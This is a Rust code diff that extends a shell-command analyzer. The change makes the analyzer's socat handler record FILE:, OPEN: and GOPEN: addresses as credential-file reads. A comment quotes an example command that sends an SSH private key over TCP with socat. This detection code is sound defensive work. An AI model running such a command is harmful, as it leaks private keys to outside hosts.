@@ -332,7 +332,8 @@ pub(crate) fn httpie(v: &mut ShellView, p: &str, args: &[Word]) {
     v.uses.push(NetUse::new(p, dest, true));
 }
 
-/// socat: a network address among its two addresses.
+/// socat: a network address among its two addresses, and a credential
+/// file one of them reads.
 pub(crate) fn socat(v: &mut ShellView, args: &[Word]) {
     const CONNECT: &[&str] = &[
         "tcp:",
@@ -375,6 +376,13 @@ pub(crate) fn socat(v: &mut ShellView, args: &[Word]) {
             v.uses.push(NetUse::new("socat", dest, true));
         } else if LISTEN.iter().any(|pre| lower.starts_with(pre)) {
             v.uses.push(NetUse::new("socat", Dest::Unknown, true));
+        } else if let Some(pre) = ["file:", "open:", "gopen:"]
+            .iter()
+            .find(|pre| lower.starts_with(**pre))
+        {
+            // `socat FILE:~/.ssh/id_rsa TCP:host:port`: the file is sent.
+            let path = w.text[pre.len()..].split(',').next().unwrap_or("");
+            crate::files::note_credential(v, path);
         }
     }
 }
